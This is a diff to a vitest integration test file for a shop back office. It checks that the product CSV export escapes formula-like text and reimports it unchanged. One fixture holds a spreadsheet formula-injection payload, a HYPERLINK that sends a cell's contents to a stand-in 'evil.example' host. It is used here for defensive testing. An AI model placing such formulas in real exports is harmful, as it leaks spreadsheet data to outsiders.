@@ -1,5 +1,6 @@
-import { afterAll, describe, expect, it } from 'vitest'
-import { signInAsStaff, unique } from '../../test/staff-session'
+import Papa from 'papaparse'
+import { afterAll, beforeAll, describe, expect, it } from 'vitest'
+import { signInAsStaff, unique, WORKER_URL } from '../../test/staff-session'
 
 await signInAsStaff()
 const { request } = await import('../../engine/calls')
@@ -63,7 +64,7 @@ describe('product import and export (both upload flows)', () => {
   it('exports the filtered products and offers the CSV when it is ready', async () => {
     const file = await exportProducts({ handle: 'verlobungsring-aurelia-solitaer-030' }, new AbortController().signal, { interval: 500, timeout: 60_000 })
     expect(file.url).toMatch(/\.csv$/)
-    const csv = await (await fetch(`${process.env.WORKER_URL ?? 'http://localhost:8788'}/medusa${file.url}`)).text()
+    const csv = await (await fetch(`${WORKER_URL}/medusa${file.url}`)).text()
     expect(csv.split('\n')[0]).toContain('Product Handle')
     expect(csv).toContain('verlobungsring-aurelia-solitaer-030')
   })
@@ -75,5 +76,80 @@ describe('product import and export (both upload flows)', () => {
     await request(`/admin/uploads/${uploaded!.id}`, { method: 'DELETE' })
     const missing = (await request(`/admin/uploads/presigned-urls`, { method: 'POST', body: {} }).catch((error) => error)) as { status: number }
     expect(missing.status).toBe(400)
+  })
+})
+
+describe("the back end's product export (POST /admin/products/export): texts that look like formulas", () => {
+  // texts a spreadsheet would run (or that Medusa's own export stripped: "-50 %" came back as "50 %")
+  const FORMULA = '=HYPERLINK("https://evil.example/?"&A1,"x")'
+  const SUBTITLE = '-50 % Rabatt'
+  const VARIANT = '@Gr. 52'
+  const handle = unique('it-export-formel')
+  let productId = ''
+
+  type Product = { title: string; subtitle: string | null; variants: { title: string; prices: { amount: number }[] }[] }
+
+  /** Until an import in the background has written the product back (or the time is up: the test then fails). */
+  async function restored() {
+    for (let i = 0; i < 60; i++) {
+      const { product } = await request<{ product: Product }>(`/admin/products/${productId}`, { query: { fields: 'title,subtitle,variants.title,variants.prices.amount' } })
+      if (product.title !== 'vorher') return product
+      await new Promise((resolve) => setTimeout(resolve, 500))
+    }
+    throw new Error(`${handle} was not imported`)
+  }
+
+  /** The export of this test's product, as the back office offers it for download. */
+  async function exported(): Promise<string> {
+    const file = await exportProducts({ handle }, new AbortController().signal, { interval: 500, timeout: 60_000 })
+    return (await fetch(`${WORKER_URL}/medusa${file.url}`)).text()
+  }
+
+  beforeAll(async () => {
+    const { product } = await request<{ product: { id: string } }>('/admin/products', {
+      method: 'POST',
+      body: {
+        title: FORMULA, subtitle: SUBTITLE, handle, status: 'draft',
+        options: [{ title: 'Ringgröße', values: [VARIANT] }],
+        variants: [{ title: VARIANT, sku: handle.toUpperCase(), manage_inventory: false, options: { Ringgröße: VARIANT }, prices: [{ currency_code: 'eur', amount: -5 }] }],
+      },
+    })
+    productId = product.id
+    created.push(product.id)
+  })
+
+  it('writes them as text, with the leading apostrophe; a negative price stays a number', async () => {
+    const { data } = Papa.parse<Record<string, string>>(await exported(), { header: true, skipEmptyLines: true })
+    expect(data).toHaveLength(1)
+    const [row] = data
+    expect(row!['Product Title']).toBe(`'${FORMULA}`)
+    expect(row!['Product Subtitle']).toBe(`'${SUBTITLE}`)
+    expect(row!['Variant Title']).toBe(`'${VARIANT}`)
+    expect(row!['Variant Price EUR']).toBe('-5')
+    for (const [column, value] of Object.entries(row!)) {
+      if (column !== 'Variant Price EUR') expect(value, column).not.toMatch(/^ *[=+\-@\t\r]/)
+    }
+  })
+
+  it('imports its own export back unchanged, through both upload flows', async () => {
+    const csv = await exported()
+    const file = () => new File([csv], `${handle}.csv`, { type: 'text/csv' })
+
+    await request(`/admin/products/${productId}`, { method: 'POST', body: { title: 'vorher', subtitle: 'vorher' } })
+    const { presigned, key } = await uploadPresigned(file())
+    const registered = await request<{ transaction_id: string; summary: { toCreate: number; toUpdate: number } }>('/admin/products/imports', {
+      method: 'POST',
+      body: { file_key: key, originalname: presigned.originalname, extension: presigned.extension, size: presigned.size, mime_type: presigned.mime_type },
+    })
+    expect(registered.summary).toEqual({ toCreate: 0, toUpdate: 1 })
+    await request(`/admin/products/imports/${registered.transaction_id}/confirm`, { method: 'POST', body: {} })
+    const viaPresigned = await restored()
+    expect(viaPresigned).toMatchObject({ title: FORMULA, subtitle: SUBTITLE })
+    expect(viaPresigned.variants.map((variant) => [variant.title, variant.prices.map((price) => price.amount)])).toEqual([[VARIANT, [-5]]])
+
+    await request(`/admin/products/${productId}`, { method: 'POST', body: { title: 'vorher', subtitle: 'vorher' } })
+    const { transaction_id } = (await sdk.admin.product.import({ file: file() })) as unknown as { transaction_id: string }
+    await request(`/admin/products/import/${transaction_id}/confirm`, { method: 'POST', body: {} })
+    expect(await restored()).toMatchObject({ title: FORMULA, subtitle: SUBTITLE })
   })
 })
